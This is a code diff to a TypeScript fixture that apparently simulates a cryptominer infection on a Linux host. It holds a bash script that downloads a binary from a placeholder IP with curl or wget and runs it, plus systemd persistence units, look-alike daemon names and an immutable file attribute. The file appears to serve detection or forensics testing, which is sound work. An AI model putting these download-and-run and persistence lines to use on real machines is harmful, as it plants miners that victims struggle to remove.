@@ -1,4 +1,4 @@
-import { type Infection, type Item, minerWords, shyMiner } from '../host-part.ts'
+import { endsHere, type Infection, type Item, minerWords, shyMiner } from '../host-part.ts'
 
 const master = '/usr/bin/sysdr'
 const names = ['/usr/bin/bprofr', '/usr/bin/crondr', '/usr/bin/initdr', '/usr/bin/dbused']
@@ -6,6 +6,7 @@ const unit = (name: string, program: string) =>
   `[Unit]\nDescription=${name}\n\n[Service]\nType=simple\nExecStart=${program} -c\nRestart=always\nRestartSec=5\n\n[Install]\nWantedBy=multi-user.target\n`
 const script = [
   '#!/bin/bash',
+  endsHere,
   'if ! pgrep -f dbused >/dev/null; then',
   '  curl -s http://198.51.100.220/x86_64 -o /usr/bin/dbused || wget -q http://198.51.100.220/x86_64 -O /usr/bin/dbused',
   '  chmod +x /usr/bin/dbused; /usr/bin/dbused -c',
@@ -30,7 +31,7 @@ export const gang8220: Infection = {
     {
       kind: 'file',
       path: master,
-      content: { lookalike: { ...shyMiner, once: 'pwnrig' }, words: minerWords },
+      content: { lookalike: shyMiner, words: minerWords },
       mode: 0o755,
       attributes: 'i',
     },
